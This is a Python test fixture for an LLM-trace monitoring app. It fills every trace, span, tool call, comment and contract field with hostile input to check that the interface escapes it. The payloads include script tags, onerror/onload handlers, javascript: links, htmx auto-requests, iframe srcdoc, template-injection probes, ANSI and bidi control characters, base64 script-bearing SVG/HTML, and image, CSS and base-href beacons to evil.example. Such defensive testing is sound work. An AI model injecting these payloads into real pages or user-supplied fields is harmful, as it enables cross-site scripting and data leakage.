"""A project in which everything that people and programs may name or say attacks its reader."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal

from tests import trace_factory as factory
from tests.security import world as worlds
from tracehub.core.trace import Prompt, Span, SpanFacts, Tokens, ToolUse, ValidationError
from tracehub.failures import actions as failures
from tracehub.failures import fixes, talk
from tracehub.projects.models import Project

HIDDEN = "\u202e\u200b"
ANSI = "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"
# Short enough for every field that has a limit.
SAID = f" <b>b</b><img src=x onerror=attack(1)>{HIDDEN}"
# All of it, for what has room.
EVERYTHING = "\n".join(
    (
        "<script>attack(2)</script>",
        "<img src=https://evil.example/p.png onerror='attack(3)'>",
        "</script><script>attack(4)</script> <!-- ",
        "</textarea><svg onload='attack(5)'></svg>",
        "<div hx-get='/attacked' hx-trigger='load'>x</div>",
        "<iframe srcdoc='<script>parent.attack(6)</script>'></iframe>",
        "<a href='javascript:attack(7)'>x</a> [x](javascript:attack(8))",
        "![x](https://evil.example/pixel.png?d=1) [x](https://evil.example/?d=2)",
        "<style>body{background:url(https://evil.example/c)}</style>",
        "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=/attacked'>",
        "{{7*7}} {% include 'base.html' %} {0.__class__.__mro__} ${7*7}",
        f"hidden {HIDDEN} {ANSI} &lt;i&gt; \u2066\ufeff",
    )
)
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYXR0YWNrKDkpIi8+"
PARTS = [
    {"type": "image", "mime_type": "image/svg+xml", "data": SVG},
    {"type": "image", "mime_type": "image/png", "url": "https://evil.example/i.png"},
    {"type": "image_url", "image_url": {"url": f"data:image/svg+xml;base64,{SVG}"}},
    {"type": "file", "mime_type": "text/html", "data": "PHNjcmlwdD5hdHRhY2soMTApPC9zY3JpcHQ+"},
    {"type": "audio", "mime_type": EVERYTHING, "data": EVERYTHING},
]
CONTRACT = {"type": "object", "properties": {f"amount{SAID}": {"type": "number"}}}


def project(word: str = "skylane") -> worlds.World:
    """Make it, with a contract of hostile names, and a failure that people spoke of."""
    made = worlds.make(word, 1, said=SAID, trace=trace)
    failures.save_contract(made.project, f"{word}-strict", CONTRACT, prompt=f"refund{SAID}")
    for failure in made.project.failures.order_by("number")[:3]:
        talk.comment(failure, EVERYTHING, by=made.people["admin"])
        fixes.add([failure], "prompt", f"fixed{SAID}", f"refund@v9{SAID}", by=made.people["admin"],
                  at=datetime.now(UTC))  # fmt: skip
    return made


def trace(of: Project, number: int) -> str:
    """A trace whose every field says what it should not."""
    trace_id = f"{0xBAD0 + number:032x}"
    began = int(datetime.now(UTC).timestamp() * 1e9)
    call = {"id": EVERYTHING, "name": f"pay{SAID}", "arguments": {EVERYTHING: EVERYTHING}}
    answer = {**factory.text("assistant", EVERYTHING), "tool_calls": [call]}
    asked = {
        **factory.text("user", EVERYTHING),
        "content": [{"type": "text", "text": EVERYTHING}, *PARTS],
    }
    facts = SpanFacts(
        trace_name=f"name{SAID}",
        environment=f"env{SAID}",
        user_id=f"u{SAID}",
        session_id=f"s{SAID}",
        cohort=f"c{SAID}",
        release=f"r{SAID}",
        tags=[f"tag{SAID}"],
        metadata={f"k{SAID}": EVERYTHING},
    )
    top = _span(
        trace_id,
        1,
        kind="agent",
        facts=facts,
        start_ns=began,
        input={"messages": [factory.text("system", EVERYTHING), asked]},
        output={"messages": [answer]},
    )
    reply = f'{{"amount{SAID}": "<script>attack(11)</script>", "x": "</script>"}}'
    below = _span(
        trace_id,
        2,
        parent_id=top.span_id,
        start_ns=began,
        prompt=Prompt(f"refund{SAID}", f"v1{SAID}"),
        output=factory.chat(("assistant", reply)),
        context=[
            {"id": EVERYTHING, "content": EVERYTHING, "score": 0.5, "metadata": {"title": SAID}}
        ],
    )
    tool = _span(
        trace_id,
        3,
        parent_id=top.span_id,
        kind="tool",
        start_ns=began,
        tool=ToolUse(f"pay{SAID}", EVERYTHING, {EVERYTHING: EVERYTHING}, EVERYTHING),
    )
    return factory.trace(of, top, below, tool, trace_id=trace_id)


def _span(trace_id: str, number: int, **fields) -> Span:
    common = {
        "span_id": f"{number:016x}",
        "name": f"span{number}{SAID}",
        "model": f"gpt-4o{SAID}",
        "provider": f"openai{SAID}",
        "error": True,
        "error_type": f"E{SAID}",
        "error_message": EVERYTHING,
        "validation_errors": [ValidationError(f"/a{SAID}", f"rule{SAID}", EVERYTHING)],
        "attributes": {EVERYTHING: EVERYTHING, "hx-get": "/attacked"},
        "parameters": {f"p{SAID}": EVERYTHING},
        "finish_reasons": [f"stop{SAID}"],
        "tokens": Tokens(input=10, output=5, total=15),
        "cost": Decimal("0.01"),
    }
    return factory.span(trace_id, **common | fields)
